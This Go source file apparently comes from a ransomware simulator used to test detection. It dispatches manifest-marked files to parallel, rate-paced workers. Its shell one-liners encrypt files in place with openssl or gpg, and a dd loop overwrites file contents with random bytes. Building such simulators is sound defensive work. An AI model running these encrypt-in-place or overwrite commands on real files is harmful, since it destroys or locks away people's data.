package ransomware

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"
)

// Drive runs an adaptive mode: it hands the marked files of dir, one per
// process, to workers it starts (re-executions of the simulator for
// ModeFamily, the machine's openssl, gpg or dd under a shell loop or
// `xargs -P` for the tool loops), paced at o.Rate files per second over all
// workers. worker is the command that encrypts one file for ModeFamily
// (the simulator itself, `--one REL` appended); nil for the tool loops.
// It returns how many files were handed out, and an error naming how many
// workers did not finish when the family was stopped.
func Drive(ctx context.Context, dir string, m *Manifest, o Options, worker []string, stdout, stderr io.Writer) (int, error) {
	files := m.Ordered(o.Order)
	for _, e := range files {
		if strings.ContainsAny(e.Path, "\n\x00") || !filepath.IsLocal(e.Path) {
			return 0, fmt.Errorf("marked path %q cannot be handed to a worker", e.Path)
		}
	}
	var interval time.Duration
	if o.Rate > 0 {
		interval = time.Duration(float64(time.Second) / o.Rate)
	}
	if o.Workers < 1 {
		o.Workers = 1
	}
	if o.Mode == ModeFamily {
		return driveFamily(ctx, dir, files, o.Workers, interval, worker, stdout, stderr)
	}
	return driveTool(ctx, dir, m, files, o, interval, stdout, stderr)
}

// driveFamily starts one worker process per file, workers at a time.
func driveFamily(ctx context.Context, dir string, files []Entry, workers int, interval time.Duration, worker []string, stdout, stderr io.Writer) (int, error) {
	if len(worker) == 0 {
		return 0, errors.New("family mode needs a worker command")
	}
	slots := make(chan struct{}, workers)
	errc := make(chan error, len(files))
	next := time.Now()
	n := 0
	for _, e := range files {
		if interval > 0 {
			time.Sleep(time.Until(next))
			next = next.Add(interval)
		}
		select {
		case slots <- struct{}{}:
		case <-ctx.Done():
			return n, ctx.Err()
		}
		c := exec.CommandContext(ctx, worker[0], append(worker[1:], "--one", e.Path)...)
		c.Stdout, c.Stderr = stdout, stderr
		if err := c.Start(); err != nil {
			<-slots
			return n, err
		}
		n++
		go func() { errc <- c.Wait(); <-slots }()
		// A worker that was killed means the family was stopped: hand out
		// no more (xargs does the same when a command dies of a signal).
		if failed := drain(errc); failed > 0 {
			return n, waitAll(slots, workers, errc, failed, n)
		}
	}
	return n, waitAll(slots, workers, errc, 0, n)
}

func drain(errc chan error) int {
	failed := 0
	for {
		select {
		case err := <-errc:
			if err != nil {
				failed++
			}
		default:
			return failed
		}
	}
}

// waitAll waits for the running workers and reports how many failed.
func waitAll(slots chan struct{}, workers int, errc chan error, failed, started int) error {
	for range workers {
		slots <- struct{}{}
	}
	failed += drain(errc)
	if failed > 0 {
		return fmt.Errorf("%d of %d workers did not finish", failed, started)
	}
	return nil
}

// toolScript is the per-file command of a tool loop; "$f" is the file, the
// key comes in the environment (TILLSIM_KEY, TILLSIM_IV), never in the
// script text.
func toolScript(mode string) (tool, script string, err error) {
	switch mode {
	case ModeOpenSSLLoop:
		return "openssl", `openssl enc -aes-256-ctr -K "$TILLSIM_KEY" -iv "$TILLSIM_IV" -in "$f" -out "$f` + TmpExt + `" && mv -f "$f` + TmpExt + `" "$f"`, nil
	case ModeGPGLoop:
		return "gpg", `gpg --batch --yes --quiet --pinentry-mode loopback --passphrase "$TILLSIM_KEY" --homedir "$TILLSIM_GNUPGHOME" -c -o "$f` + TmpExt + `" "$f" && mv -f "$f` + TmpExt + `" "$f"`, nil
	case ModeDDLoop:
		return "dd", `dd if=/dev/urandom of="$f" bs=4096 count=3 conv=notrunc status=none`, nil
	}
	return "", "", fmt.Errorf("mode %q is not a tool loop", mode)
}

// driveTool runs the tool loop: `sh -c 'while read f; do …; done'` for one
// worker, `xargs -P N -n 1 sh -c '…'` for more, fed the file names on stdin.
func driveTool(ctx context.Context, dir string, m *Manifest, files []Entry, o Options, interval time.Duration, stdout, stderr io.Writer) (int, error) {
	tool, script, err := toolScript(o.Mode)
	if err != nil {
		return 0, err
	}
	if _, err := exec.LookPath(tool); err != nil {
		return 0, fmt.Errorf("mode %s needs %s on PATH: %w", o.Mode, tool, err)
	}
	var c *exec.Cmd
	if o.Workers == 1 {
		c = exec.CommandContext(ctx, "/bin/sh", "-c", `while IFS= read -r f; do `+script+`; done`)
	} else {
		c = exec.CommandContext(ctx, "xargs", "-d", "\n", "-n", "1", "-P", fmt.Sprint(o.Workers), "/bin/sh", "-c", `f=$1; `+script, "sh")
	}
	home, err := os.MkdirTemp("", "tillsim-gnupg-")
	if err != nil {
		return 0, err
	}
	defer os.RemoveAll(home)
	c.Env = append(os.Environ(), "TILLSIM_KEY="+m.Key, "TILLSIM_IV="+m.Key[:32], "TILLSIM_GNUPGHOME="+home)
	c.Dir = dir
	c.Stdout, c.Stderr = stdout, stderr
	in, err := c.StdinPipe()
	if err != nil {
		return 0, err
	}
	if err := c.Start(); err != nil {
		return 0, err
	}
	w := bufio.NewWriter(in)
	next := time.Now()
	n := 0
	for _, e := range files {
		if interval > 0 {
			time.Sleep(time.Until(next))
			next = next.Add(interval)
		}
		if _, err := w.WriteString(e.Path + "\n"); err != nil {
			break // the loop is gone (stopped)
		}
		if interval > 0 {
			if err := w.Flush(); err != nil {
				break
			}
		}
		n++
	}
	_ = w.Flush()
	_ = in.Close()
	if err := c.Wait(); err != nil {
		return n, fmt.Errorf("1 of 1 workers did not finish: the %s loop ended with %w", tool, err)
	}
	return n, nil
}
